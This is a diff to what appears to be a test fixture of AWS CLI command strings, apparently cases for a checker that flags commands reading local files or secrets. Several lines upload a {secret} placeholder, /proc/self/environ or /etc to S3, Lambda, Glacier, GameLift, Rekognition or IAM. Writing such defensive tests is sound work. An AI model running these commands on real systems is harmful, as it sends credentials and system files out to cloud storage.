@@ -108,6 +108,7 @@ s3api put-object --bucket survivor --key k --body={secret}
 s3api put-object --bucket survivor --key k --bo {secret}
 s3api put-object --bucket survivor --key k --body /proc/self/environ
 lambda create-function --function-name f --zip-file fileb://{secret}
+lambda update-function-code --function-name f --zip-file fileb://{secret}
 [3 unknown-service]
 deploy push --application-name a --s3-location s3://survivor/k --source /etc
 gamelift upload-build --name n --build-version 1 --build-root /etc
@@ -115,7 +116,7 @@ glacier upload-archive --account-id - --vault-name v --body {secret}
 s3control list-jobs --account-id 1
 rekognition detect-labels --image-bytes fileb://{secret}
 [3 operation]
-lambda update-function-code --function-name f --zip-file fileb://{secret}
+iam upload-ssh-public-key --user-name u --ssh-public-key-body file://{secret}
 [4 local-file]
 s3api get-object --bucket survivor --key k {marker}
 s3api get-object --bucket=survivor --key=k {marker}
